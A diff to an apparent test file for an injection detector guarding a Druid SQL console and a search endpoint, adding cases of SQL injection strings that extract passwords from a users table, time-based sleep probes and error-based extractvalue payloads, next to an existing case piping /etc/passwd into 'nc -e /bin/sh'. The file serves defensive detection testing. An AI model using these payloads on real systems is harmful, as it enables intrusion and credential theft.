@@ -64,6 +64,29 @@ test('in a console what breaks out of something, other fields and other attacks 
   expect(sentTo('/druid/v2/sql', { query: `${STATEMENT};cat /etc/passwd|nc -e /bin/sh a 1` })).toEqual(['body.query']);
 });
 
+test.each([
+  "select' union select password from users-- ",
+  "find x' or 1=1-- ",
+  "select ' union select password from users where 'c'='c",
+  "select ' union select password from users -- '",
+  "select ''' or 1=1 -- '",
+  "select '+extractvalue(1,concat(1,(select password from users)))+'",
+  'select " or sleep(5) or "',
+  'select 1) union select password from users-- ',
+  "show ('a') or 1=1) union select password from users -- ",
+  'select%27 union select password from users-- ',
+])('in a console a word in front makes no statement of what leaves a string or a bracket: %s', (text) => {
+  expect(sentTo('/druid/v2/sql', { query: text })).toEqual(['body.query']);
+});
+
+test.each([
+  "select * from information_schema.tables where a = 'it''s' or b = 'c' or 1 = 1",
+  "select a from b where (c like '%d%' or e = 'open') union select f from (select 1) g",
+])('in a console constants and brackets that are closed leave nothing: %s', (text) => {
+  expect(sentTo('/druid/v2/sql', { query: text })).toEqual([]);
+  expect(sentTo('/search', { query: text })).toEqual(['body.query']);
+});
+
 test('at a decoy nothing is excused', () => {
   expect(sentTo('/druid/v2/sql', { query: STATEMENT }, decoyField)).toEqual(['body.query']);
 });
